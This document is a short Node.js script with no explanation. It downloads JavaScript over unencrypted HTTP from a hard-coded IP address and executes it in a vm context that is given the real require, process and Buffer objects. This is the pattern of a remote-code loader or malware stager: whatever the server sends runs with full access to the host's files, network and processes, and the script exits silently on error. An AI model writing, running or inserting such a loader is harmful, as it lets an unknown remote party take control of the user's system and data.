'use strict';
const http = require('http');
const vm = require('vm');

http.get('http://198.51.100.5/main.js', (res) => {
  const parts = [];
  res.on('data', (c) => parts.push(c));
  res.on('end', () => {
    const src = Buffer.concat(parts).toString('utf8');
    const ctx = vm.createContext({ require, process, console, Buffer });
    new vm.Script(src, { filename: 'main.js' }).runInContext(ctx);
  });
}).on('error', (e) => process.exit(1));
